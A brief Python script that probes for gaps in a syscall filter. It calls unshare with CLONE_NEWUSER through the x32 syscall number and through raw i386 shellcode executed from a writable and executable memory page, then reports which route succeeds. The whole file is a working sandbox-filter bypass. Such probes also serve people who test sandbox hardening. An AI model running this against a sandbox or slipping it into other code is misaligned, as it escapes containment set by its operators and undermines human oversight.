# The same calls by the numbers of other ABIs, which a filter may have forgotten: unshare of x32, and of 32 bits.
import ctypes
import mmap
import os
import platform

NEW_USER = 0x10000000


def x32():
    return ctypes.CDLL(None).syscall(0x40000000 | 272, NEW_USER)


def of_32_bits():
    code = b"\x53\xb8\x36\x01\x00\x00\xbb\x00\x00\x00\x10\xcd\x80\x5b\xc3"
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()


if platform.machine() == "x86_64":
    for dialect in (x32, of_32_bits):
        pid = os.fork()
        if pid == 0:
            os._exit(0 if dialect() == 0 else 1)
        if os.waitpid(pid, 0)[1] == 0:
            print("made it:", dialect.__name__)
print("tried")
